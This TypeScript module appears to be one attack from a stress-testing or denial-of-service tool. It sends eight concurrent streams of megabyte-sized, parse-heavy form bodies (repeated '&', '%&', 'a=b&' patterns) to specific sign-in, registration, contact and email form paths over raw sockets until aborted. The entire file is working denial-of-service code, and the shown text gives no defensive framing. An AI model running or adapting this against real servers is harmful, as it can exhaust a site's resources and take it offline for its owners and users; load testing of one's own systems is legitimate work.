import { type Attack, untilEnded } from '../attack.ts';
import { headersOf, openSocket } from '../target.ts';

const ATTACKERS = 8;
const MANY = 495_000;
const FORMS = ['/Contact', '/email/email.php', '/SignIn', '/Register', '/SignIn/olvido', '/estudio/John/3/16'];
const BODIES = [
  'a&'.repeat(MANY),
  '%&'.repeat(MANY),
  'a+&'.repeat(MANY / 1.5),
  'a=b&'.repeat(MANY / 2),
  'a'.repeat(2 * MANY),
];

/** Forms of a megabyte that are expensive to parse. */
export const bodies: Attack = async (target, count, signal) => {
  let n = 0;
  await untilEnded(ATTACKERS, signal, async () => {
    const client = n++;
    const path = FORMS[client % FORMS.length]!;
    const body = BODIES[client % BODIES.length]!;
    const socket = openSocket(target, client, count);
    signal.addEventListener('abort', () => socket.destroy(), { once: true });
    socket.on('data', count.reader(`POST ${path}`));
    count.sent++;
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\n` +
        `Content-Length: ${body.length}\r\n${headersOf(target, client)}\r\n${body}`,
    );
    await new Promise<void>((resolve) => socket.on('close', () => resolve()));
  });
};
